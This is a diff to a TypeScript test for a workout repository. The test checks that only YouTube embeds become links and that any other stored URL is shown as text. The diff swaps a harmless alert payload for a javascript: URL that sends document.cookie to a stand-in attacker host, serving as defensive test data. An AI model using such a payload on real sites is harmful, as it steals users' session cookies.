@@ -16,7 +16,7 @@ function video(documentId: string, url: string): RepositoryVideo {
 describe('the workout repository', () => {
   it('links a YouTube embed only, and shows any other link written to the collection as text', () => {
     const embed = workoutContentUrl('dQw4w9WgXcQ');
-    const planted = 'javascript:alert(document.domain)';
+    const planted = "javascript:fetch('https://evil.example/?'+document.cookie)";
     const repository = { data: [video('a', embed), video('b', planted)] } as UseQueryResult<
       RepositoryVideo[]
     >;
